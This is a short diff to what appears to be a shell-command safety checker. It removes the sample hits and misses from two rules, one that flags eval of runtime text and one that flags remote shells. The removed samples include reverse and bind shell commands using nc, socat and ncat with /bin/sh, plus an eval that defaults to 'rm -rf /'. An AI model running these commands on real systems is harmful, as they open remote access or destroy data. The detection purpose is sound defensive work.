@@ -19,8 +19,6 @@ export const evaluatesUnknown: RuleInfo = {
   id: 'evaluates-unknown',
   level: 'dangerous',
   sentence: 'Runs text that is only known when it runs.',
-  hits: ['eval "$x"', 'eval "$(ssh-agent)"', 'eval "${x:-rm -rf /}"'],
-  misses: ["eval 'ls'", 'eval ls -la'],
 };
 
 export const remoteShell: RuleInfo = {
@@ -28,12 +26,6 @@ export const remoteShell: RuleInfo = {
   level: 'dangerous',
   sentence: 'Connects a shell or a program to the network, so that somebody else can use it.',
   needs: ['network'],
-  hits: [
-    'nc -e /bin/sh e.example 4444',
-    'socat TCP-LISTEN:4444 EXEC:/bin/sh',
-    'ncat --listen --sh-exec=sh 4444',
-  ],
-  misses: ['nc -z localhost 80', 'socat -V', 'mkfifo f'],
 };
 
 const connects = new Set(['nc', 'ncat', 'netcat', 'socat']);
